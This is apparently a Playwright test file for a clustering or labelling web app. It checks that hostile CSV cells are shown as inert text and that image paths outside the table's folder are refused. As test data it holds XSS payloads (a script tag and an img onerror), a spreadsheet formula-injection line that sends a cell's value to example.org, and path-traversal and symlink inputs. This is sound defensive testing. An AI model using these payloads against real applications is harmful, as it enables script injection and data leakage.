"""Hostile cells, names and paths: they are shown as text, and files elsewhere are not served."""

import numpy as np
import pandas as pd
from PIL import Image
from playwright.sync_api import expect

SCRIPT = "<script>window.hacked = 1</script>"
PICTURE = "<img src=x onerror='window.hacked = 1; alert(1)'>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
N_ROWS = 36


def write_hostile_table(path):
    """Write cells, ids and a column name that an unsafe page would run; returns the kind of each id."""
    rng = np.random.default_rng(0)
    kinds = np.arange(N_ROWS) % 3
    ids = [f"{(SCRIPT, PICTURE, FORMULA)[n % 3]}{n}" for n in rng.permutation(N_ROWS)]
    pd.DataFrame(
        {
            "id": ids,
            "size": rng.normal(10.0 * kinds, 1.0).round(2),
            PICTURE: np.take([SCRIPT, PICTURE, FORMULA], kinds),
            "text": [f"{SCRIPT} and a long line of words to be read as text, {n}" for n in kinds],
        }
    ).to_csv(path, index=False)
    return {name: str(kind) for name, kind in zip(ids, kinds, strict=True)}


def test_hostile_cells_are_text_and_nothing_runs(label, visit, tmp_path):
    table = tmp_path / f"{PICTURE}.csv".replace("/", "")
    truth = write_hostile_table(table)
    person = visit(label(table, "--clusters", 3, "--id", "id"))
    expect(person.page.locator("h1")).to_contain_text("<img src=x")
    expect(person.page.locator("#fields th").filter(has_text=PICTURE)).to_have_count(1)
    seen = set()
    while len(seen) < 3:
        seen |= set(person.page.locator("#fields td.value, #fields .text").all_inner_texts()) & {
            SCRIPT,
            PICTURE,
            FORMULA,
        }
        person.answer(truth)

    person["person"].click()
    person["person-name"].fill(SCRIPT)
    person["person-save"].click()
    expect(person["person"]).to_have_text(f"You: {SCRIPT}")
    person["left-id"].click()
    expect(person["record-dialog"]).to_contain_text(f"{SCRIPT} and a long line")
    person["record-close"].click()
    person.history()
    person.go("groups")
    person["group-rename"].first.click()
    person["group-name"].fill(PICTURE)
    person["group-name-save"].click()
    expect(person["group-label"].first).to_have_text(PICTURE)
    person["group-members"].first.click()
    expect(person["member"].first).to_be_visible()
    expect(person.page.locator("#legend")).to_contain_text(PICTURE)
    expect(person.page.locator("[onerror], [src=x], body script, script:not([src])")).to_have_count(0)

    person.go("download")
    for name in ("labels", "report"):
        with person.page.expect_download() as download:
            person[f"download-{name}"].click()
        download.value.save_as(tmp_path / name)
    labels = pd.read_csv(tmp_path / "labels")
    assert {name for name in labels["id"] if name.startswith("=")} == set()
    assert sum(name.startswith("'=") for name in labels["id"]) == N_ROWS // 3
    report = person.context.new_page()
    report.set_content((tmp_path / "report").read_text("utf-8"))
    expect(report.locator("[onerror], [src=x], script")).to_have_count(0)
    for page in (person.page, report):
        assert page.evaluate("window.hacked") is None


def test_images_are_served_from_the_folder_of_the_table_only(label, visit, tmp_path):
    folder = tmp_path / "study"
    (folder / "pictures").mkdir(parents=True)
    for shade in (40, 120, 200):
        Image.new("RGB", (60, 40), (shade, 90, 140)).save(folder / "pictures" / f"{shade}.png")
    Image.new("RGB", (60, 40)).save(tmp_path / "secret.png")
    (folder / "link.png").symlink_to(tmp_path / "secret.png")
    kinds = np.arange(24) % 3
    paths = [f"pictures/{shade}.png" for shade in np.take([40, 120, 200], kinds)]
    outside = {3: "../secret.png", 9: str(tmp_path / "secret.png"), 15: "link.png"}
    paths = [outside.get(row, path) for row, path in enumerate(paths)]
    rng = np.random.default_rng(1)
    ids = [f"R{row}" for row in range(24)]
    table = {"id": ids, "size": rng.normal(10.0 * kinds, 1.0), "weight": rng.normal(5.0 * kinds, 1.0)}
    pd.DataFrame({**table, "file": paths}).to_csv(folder / "table.csv", index=False)
    options = ("--clusters", 3, "--id", "id", "--image", "file")
    person = visit(label(folder / "table.csv", *options))
    truth = dict(zip(ids, map(str, kinds), strict=True))

    while {f"R{row}" for row in outside}.intersection(person.pair):
        person.answer(truth)
    shown = person.page.locator("#images img")
    expect(shown).to_have_count(2)
    for side in (0, 1):
        expect(shown.nth(side)).to_have_js_property("naturalWidth", 60)

    origin = f"http://{person.host}"
    assert person.context.request.get(f"{origin}/image/0").status == 200
    for row in outside:
        assert person.context.request.get(f"{origin}/image/{row}").status == 404
    person.go("groups")
    for card in person["group-card"].all():
        card.get_by_test_id("group-members").click()
        expect(card.get_by_test_id("member").first).to_be_visible()
    for more in person.page.get_by_text("Show more").all():
        more.click()
    person["member-open"].get_by_text("R9", exact=True).click()
    expect(person["record-dialog"]).to_be_visible()
    expect(person["record-dialog"].locator("img")).to_have_count(0)
    person["record-close"].click()
    person["member-open"].get_by_text("R0", exact=True).click()
    expect(person["record-dialog"].locator("img")).to_have_js_property("naturalWidth", 60)
